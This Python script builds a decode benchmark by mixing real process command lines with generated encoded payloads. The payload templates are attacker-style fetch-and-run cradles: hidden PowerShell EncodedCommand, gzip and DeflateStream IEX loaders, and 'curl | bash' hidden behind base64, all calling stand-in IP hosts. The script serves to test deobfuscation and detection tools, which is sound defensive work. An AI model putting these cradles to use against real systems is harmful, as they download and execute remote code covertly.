"""Build the decode benchmark's input: a table of real command lines with encoded payloads.

Usage: make_inputs.py DATA_DIR OUT_CSV MEGABYTES [PAYLOADS_JSONL]

Rows come from the Windows 4688 events (processes_on_host.csv) and the Linux auditd
execve events (linux_proc_test.csv), repeated until the table reaches MEGABYTES. One row
in twenty gets an encoded payload of one of the kinds attackers use: a PowerShell
-EncodedCommand (UTF-16LE base64), a gzip-in-base64 download cradle, an
`echo … | base64 -d | sh` line, or one of MSTICPy's two base64 test files. After about
one such row in eight an extra row follows with a DeflateStream cradle (raw DEFLATE in
base64, as PowerShell's IO.Compression.DeflateStream and Invoke-Obfuscation write it).
The extra rows are drawn from a random stream of their own, so every other row is the
same as in a table built without them.

PAYLOADS_JSONL, when given, lists each generated payload for decoders that are handed
the payload and its recipe rather than finding it in a command line (CyberChef): one
JSON object per payload with `row` (the table row, 0-based, as `src_index`), `kind`
(`base64`, `base64+gzip` or `base64+deflate`), `payload` (the base64 run) and `md5` (of
the plaintext bytes a full decode gives). A text file beside it (same name, `.txt`) has
the payloads alone, one a line. MSTICPy's two test files are left out: each is a
document holding several runs, tar and zip among them, not one payload.
"""

import base64
import csv
import gzip
import hashlib
import json
import random
import zlib
import sys
from pathlib import Path


def payloads(data: Path, rng: random.Random):
    """Yields (command line, kind, base64 payload, plaintext bytes); the last three are
    None for MSTICPy's test files."""
    hosts = ["198.51.100.7", "203.0.113.9", "192.0.2.44", "198.51.100.23"]
    b64msg = (data / "base64msg.txt").read_text()
    inzip = (data / "b64text_inzip.txt").read_text()

    def ps_encoded():
        script = (
            f"$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
            f"IEX $c.DownloadString('http://{rng.choice(hosts)}/{rng.randrange(10**6)}.ps1')"
        )
        plain = script.encode("utf-16-le")
        enc = base64.b64encode(plain).decode()
        return f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {enc}", "base64", enc, plain

    def gzip_cradle():
        script = (
            f"$s=New-Object IO.MemoryStream;iex (New-Object Net.WebClient).DownloadString("
            f"'http://{rng.choice(hosts)}/stage{rng.randrange(100)}');Start-Sleep {rng.randrange(60)}"
        )
        blob = base64.b64encode(gzip.compress(script.encode(), mtime=0)).decode()
        line = (
            "powershell -nop -c \"IEX(New-Object IO.StreamReader((New-Object IO.Compression.GzipStream("
            f"[IO.MemoryStream][Convert]::FromBase64String('{blob}'),[IO.Compression.CompressionMode]"
            "::Decompress)))).ReadToEnd()\""
        )
        return line, "base64+gzip", blob, script.encode()

    def echo_sh():
        cmd = f"curl -fsSL http://{rng.choice(hosts)}/x{rng.randrange(1000)}.sh | bash -s -- --quiet"
        enc = base64.b64encode(cmd.encode()).decode()
        return f"/bin/sh -c echo {enc} | base64 -d | sh", "base64", enc, cmd.encode()

    kinds = [ps_encoded, gzip_cradle, echo_sh, ps_encoded, gzip_cradle, echo_sh]
    while True:
        roll = rng.random()
        if roll < 0.02:
            yield b64msg, None, None, None
        elif roll < 0.04:
            yield inzip, None, None, None
        else:
            yield rng.choice(kinds)()


def deflate_cradle(rng: random.Random):
    """A PowerShell DeflateStream cradle: raw DEFLATE (no zlib or gzip header) in base64."""
    host = rng.choice(["198.51.100.7", "203.0.113.9", "192.0.2.44", "198.51.100.23"])
    script = (
        f"$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
        f"IEX $w.DownloadString('http://{host}/d{rng.randrange(10**4)}.ps1')"
    )
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    blob = base64.b64encode(packer.compress(script.encode()) + packer.flush()).decode()
    line = (
        "powershell -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("
        f"'{blob}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($s,"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""
    )
    return line, "base64+deflate", blob, script.encode()


def main() -> None:
    data, out, megabytes = Path(sys.argv[1]), Path(sys.argv[2]), float(sys.argv[3])
    side = Path(sys.argv[4]) if len(sys.argv) > 4 else None
    rng = random.Random(20190115)
    # Its own stream, so that adding the deflate rows left every other row as it was.
    extra = random.Random(20240611)
    base = []
    with open(data / "processes_on_host.csv", newline="") as f:
        base += [r["CommandLine"] for r in csv.DictReader(f) if r.get("CommandLine")]
    with open(data / "linux_proc_test.csv", newline="") as f:
        base += [r["cmdline"] for r in csv.DictReader(f) if r.get("cmdline")]
    encoded = payloads(data, rng)
    target = int(megabytes * 1_000_000)
    size = 0
    rows = 0
    listed = []
    with open(out, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["CommandLine"])
        while size < target:
            if rng.random() < 0.05:
                lines = [next(encoded)]
                if extra.random() < 0.125:
                    lines.append(deflate_cradle(extra))
            else:
                lines = [(rng.choice(base), None, None, None)]
            for line, kind, payload, plain in lines:
                if kind:
                    md5 = hashlib.md5(plain).hexdigest()
                    listed.append({"row": rows, "kind": kind, "payload": payload, "md5": md5})
                writer.writerow([line])
                size += len(line) + 3
                rows += 1
    if side:
        side.write_text("".join(json.dumps(p) + "\n" for p in listed))
        side.with_suffix(".txt").write_text("".join(p["payload"] + "\n" for p in listed))
    print(f"{out}: {rows} rows, {out.stat().st_size / 1e6:.1f} MB, {len(listed)} payloads listed",
          file=sys.stderr)


if __name__ == "__main__":
    main()
